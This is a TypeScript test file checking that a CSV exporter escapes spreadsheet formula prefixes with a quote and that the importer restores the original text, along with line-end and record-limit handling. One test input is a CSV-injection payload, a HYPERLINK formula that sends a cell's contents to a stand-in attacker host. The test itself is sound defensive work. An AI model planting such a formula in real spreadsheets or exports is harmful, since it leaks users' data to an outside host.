// The CSV the exports write and the import reads: a cell a spreadsheet would run as a formula is
// written as text, and comes back as it was.
import t from 'tap'
import { parse } from 'csv-parse/sync'
import { csvRows, parseCsv } from '../../runtime/csv.ts'

const names = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1 spare',
  '-10% off',
  '@SUM(A1)',
  '\tTabbed',
  '\rReturn',
  '＝SUM(A1)', // full width: some spreadsheets read these as their ASCII forms
  '－10%',
]

/** Texts that already begin with quotes: written with one more, read back as they were. */
const quoted = ["'=not a formula", "'-- clearance", "''+1"]

/** The fields exactly as written, quote included: csv-parse itself, without parseCsv's care. */
const parseCsvRaw = (text: string): string[][] => parse(text)

t.test(
  'a text a spreadsheet would run as a formula is written with a quote before it',
  async (t) => {
    const text = csvRows([
      ['sku', 'name', 'onHand'],
      ...names.map((name, i) => [`S${i}`, name, -i]),
    ])
    const lines = parseCsvRaw(text)
    for (const [i, name] of names.entries()) {
      t.equal(lines[i + 1][1], `'${name}`, `${JSON.stringify(name)} as text`)
      t.equal(lines[i + 1][2], String(-i), 'a number is left alone, even negative')
    }
    t.equal(
      csvRows([['BOLT-M8', 'Bolt = M8', "it's"]]),
      "BOLT-M8,Bolt = M8,it's\r\n",
      'other text as it is'
    )
  }
)

t.test(
  'the import takes the quote off again: an export reads back as it was written',
  async (t) => {
    const rows = [['sku', 'name'], ...[...names, ...quoted].map((name, i) => [`S${i}`, name])]
    t.same(
      parseCsv(csvRows(rows)).map((r) => r.fields),
      rows
    )
    t.same(
      parseCsvRaw(csvRows([quoted]))[0],
      quoted.map((q) => `'${q}`),
      'a text that begins with quotes before a formula gets one more'
    )
    t.same(
      parseCsv("sku,name\r\nA,'plain\r\n")[1].fields,
      ['A', "'plain"],
      'a quote before other text stays'
    )
  }
)

t.test(
  'every line end ends a record, mixed in one file; one inside quotes stays in its field',
  async (t) => {
    const text = 'sku,name,unit\r\nM3,first half\nM4,ea\r\nM5,"two\r\nlines",ea\rM6,x,ea\n'
    t.same(parseCsv(text), [
      { line: 1, fields: ['sku', 'name', 'unit'] },
      { line: 2, fields: ['M3', 'first half'] },
      { line: 3, fields: ['M4', 'ea'] },
      { line: 4, fields: ['M5', 'two\r\nlines', 'ea'] },
      { line: 6, fields: ['M6', 'x', 'ea'] },
    ])
  }
)

t.test('with a most, no more records are read than that', async (t) => {
  const text = `sku,name\n${'A,B\n'.repeat(1000)}`
  t.equal(parseCsv(text).length, 1001)
  t.same(
    parseCsv(text, 3).map((r) => r.line),
    [1, 2, 3]
  )
})
